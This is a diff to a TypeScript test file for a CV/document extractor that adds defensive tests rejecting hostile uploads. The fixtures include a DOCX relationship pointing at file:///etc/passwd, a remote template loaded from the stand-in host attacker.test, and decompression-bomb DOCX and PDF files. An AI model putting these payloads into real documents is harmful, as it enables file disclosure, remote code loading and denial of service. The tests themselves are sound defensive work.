@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { createExtractPool } from './extract-pool.js';
 import { DocumentError, extractDocument, MAX_PDF_PAGES, MAX_UPLOAD_BYTES } from './index.js';
-import { docxParts, makeDocx, makePdf, makeZip } from './test-fixtures.js';
+import { docxParts, makeDocx, makeFlateBombPdf, makeLyingDocx, makePdf, makeZip } from './test-fixtures.js';
 
 async function rejection(p: Promise<unknown>): Promise<DocumentError> {
   const err = await p.then(
@@ -30,6 +30,12 @@ describe('extractDocument', () => {
 
   it('keeps ordinary hyperlinks in a DOCX', async () => {
     const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/me" TargetMode="External"/></Relationships>`;
+    const r = await extractDocument(makeDocx(CV_LINES, rels), 'cv.docx');
+    expect(r.text).toContain('Alex Doe');
+  });
+
+  it('keeps ordinary hyperlinks written with single quotes', async () => {
+    const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink' Target='https://example.org/me' TargetMode='External'/></Relationships>`;
     const r = await extractDocument(makeDocx(CV_LINES, rels), 'cv.docx');
     expect(r.text).toContain('Alex Doe');
   });
@@ -79,6 +85,36 @@ describe('extractDocument with broken and hostile files', () => {
       'external_reference',
       422,
     ],
+    [
+      "a DOCX with an external image link in single quotes (TargetMode='External')",
+      () =>
+        makeDocx(
+          CV_LINES,
+          `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id='rId5' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='file:///etc/passwd' TargetMode='External'/></Relationships>`,
+        ),
+      'external_reference',
+      422,
+    ],
+    [
+      'a DOCX whose settings load a remote template',
+      () =>
+        makeZip([
+          ...docxParts(CV_LINES),
+          {
+            name: 'word/_rels/settings.xml.rels',
+            data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.test/t.dotm" TargetMode="External"/></Relationships>`,
+          },
+        ]),
+      'external_reference',
+      422,
+    ],
+    [
+      'a DOCX whose document.xml claims 4 KiB but inflates to 64 MiB',
+      () => makeLyingDocx(64, 4096, CV_LINES),
+      'too_large',
+      413,
+    ],
+    ['a PDF whose Flate stream expands to 100 MiB', () => makeFlateBombPdf(100, CV_LINES), 'too_large', 413],
     ['a text file of whitespace', () => new TextEncoder().encode('   \n\n  \t '), 'empty', 400],
   ];
 
